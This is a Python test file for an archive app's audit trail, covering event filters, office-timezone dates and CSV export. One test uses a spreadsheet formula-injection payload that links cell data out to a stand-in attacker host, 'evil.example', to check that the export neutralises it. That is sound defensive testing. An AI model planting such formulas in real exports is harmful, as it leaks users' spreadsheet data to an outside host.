"""One read of the audit trail behind the page, its CSV export and the CLI."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

from flask.testing import FlaskClient

from archive import audit
from archive.audit import AuditFilter, export_csv, find_events
from archive.facade import Archive
from tests.web.conftest import Auth

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_filters_and_days_apply_alike(archive: Archive) -> None:
    file_archive = archive
    for who, action in (("lan", "view"), ("an", "download"), ("lan", "download")):
        audit.record_event(file_archive, who, action, record_id="abc")
    zone = file_archive.settings.zone
    # The office's day, not the machine's: after 17:00 UTC Vietnam is already on the next date.
    today = datetime.now(zone).date()
    assert len(find_events(file_archive, AuditFilter(username="lan"), zone=zone)) == 2
    assert len(find_events(file_archive, AuditFilter(action="download"), zone=zone)) == 2
    tomorrow = AuditFilter(since=today + timedelta(days=1))
    assert find_events(file_archive, tomorrow, zone=zone) == []
    out = io.StringIO()
    assert export_csv(file_archive, out, tomorrow, zone=zone) == 0
    assert len(rows_of(out.getvalue())) == 1  # the header alone


def test_the_page_export_holds_exactly_the_filtered_events(
    client: FlaskClient, auth: Auth, archive: Archive
) -> None:
    audit.record_event(archive, HOSTILE, "signin_failed")
    auth.signin("auditor")
    future = (date.today() + timedelta(days=2)).strftime("%d/%m/%Y")
    with client.get("/audit/export.csv", query_string={"since": future}) as response:
        assert len(rows_of(response.data.decode("utf-8"))) == 1
    with client.get("/audit/export.csv", query_string={"action": "signin_failed"}) as response:
        rows = rows_of(response.data.decode("utf-8"))
    (row,) = rows[1:]
    assert row[2] == "'" + HOSTILE  # a spreadsheet shows it, runs nothing
